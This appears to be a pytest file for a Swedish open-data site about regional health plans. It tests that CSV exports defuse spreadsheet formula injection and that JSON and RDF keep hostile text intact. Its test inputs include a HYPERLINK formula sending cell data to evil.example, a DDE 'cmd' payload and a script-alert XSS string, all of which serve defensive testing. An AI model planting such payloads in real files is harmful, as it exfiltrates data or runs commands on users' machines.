"""Text from data stays text in every open-data file (issue 10, item 6).

CSV: a text cell that a spreadsheet would read as a formula (OWASP "CSV injection")
gets a leading apostrophe; number columns keep their minus sign. JSON and RDF are made
by json.dumps and rdflib, so quotes, newlines and markup in data cannot break them:
what is read back is exactly what was put in.
"""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest
import rdflib
from rdflib import namespace as ns

from conftest import ROOT
from macros import model as m
from macros.downloads import FileStore, Settings, build
from macros.downloads.csvfiles import safe_text
from macros.loading import load_corpus

SITE_URL = "https://oppnaplaner.example/"
HOSTILE = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klicka\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_would_be_formula_gets_an_apostrophe(text):
    # before the formula itself: a tab or carriage return is a separator a spreadsheet may split on
    start = len(text) - len(text.lstrip())
    assert safe_text(text) == text[:start] + "'" + text[start:]


@pytest.mark.parametrize("text", ["Andel kariesfria 6-åringar", "(feb-22)", "Bibehålla/öka", "77", ""])
def test_ordinary_text_is_left_alone(text):
    assert safe_text(text) == text


def _settings() -> Settings:
    return Settings(SITE_URL, "Öppna planer", "Utgivare", "a@b.example")


@pytest.fixture
def hostile_corpus():
    corpus = load_corpus(ROOT / "data")
    plan = corpus.plan("vasternorrland", "hsn-verksamhetsplan-2024-2026")
    indicator = plan.indicator("kariesfria-6-aringar")
    indicator.name = HOSTILE[0]
    indicator.outcomes[2022] = m.Value(number=Decimal("-73"), unit="%", note=HOSTILE[3])
    measures = next(plan.blocks(m.Measures))
    measures.rows[0].text = HOSTILE[1]
    table = next(plan.blocks(m.Table))
    table.rows[0].name = HOSTILE[2]
    plan.title = 'Plan """ med "citat" > .\n<script>alert(1)</script> \\u0022'
    return corpus


def _csv(downloads, path: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(downloads.files[path].content.decode("utf-8"), newline="")))


def test_csv_text_cells_cannot_become_formulas_and_numbers_stay_numbers(hostile_corpus, tmp_path):
    downloads = build(hostile_corpus, _settings(), FileStore(tmp_path))
    base = "data/vasternorrland/planer/hsn-verksamhetsplan-2024-2026/"
    rows = [r for r in _csv(downloads, base + "indikatorer.csv") if r["indicator_id"] == "kariesfria-6-aringar"]
    assert {r["indicator_name"] for r in rows} == {"'" + HOSTILE[0]}
    outcome = next(r for r in rows if r["year"] == "2022" and r["kind"] == "utfall")
    assert outcome["value"] == "-73"  # a number column: no apostrophe
    assert outcome["note"] == "'" + HOSTILE[3]
    assert _csv(downloads, base + "atgarder.csv")[0]["text"] == "'" + HOSTILE[1]
    first = _csv(downloads, base + "tabeller.csv")[0]
    assert first["row_name"] == "'" + HOSTILE[2] and first["value"] == "6319"
    # no cell of any CSV starts with a formula character, except numbers in number columns
    for download, kind in downloads.csv_files():
        text_columns = {c.name for c in kind.columns if c.type == "string"}
        for row in _csv(downloads, download.path):
            for column in text_columns:
                assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (download.path, row[column])


def test_json_and_rdf_carry_hostile_text_unchanged(hostile_corpus, tmp_path):
    downloads = build(hostile_corpus, _settings(), FileStore(tmp_path))
    plan = hostile_corpus.plan("vasternorrland", "hsn-verksamhetsplan-2024-2026")
    data = json.loads(downloads.files["data/vasternorrland/planer/hsn-verksamhetsplan-2024-2026/plan.json"].content)
    assert data["title"] == plan.title
    for download, syntax in zip(downloads.catalogue, ("turtle", "xml")):
        graph = rdflib.Graph().parse(data=download.content, format=syntax)
        dataset = rdflib.URIRef(f"{SITE_URL}vasternorrland/planer/hsn-verksamhetsplan-2024-2026/#datamangd")
        title = str(graph.value(dataset, ns.DCTERMS.title))
        assert plan.title in title, (download.path, title)
        assert len(list(graph.subjects(rdflib.RDF.type, ns.DCAT.Dataset))) == 6
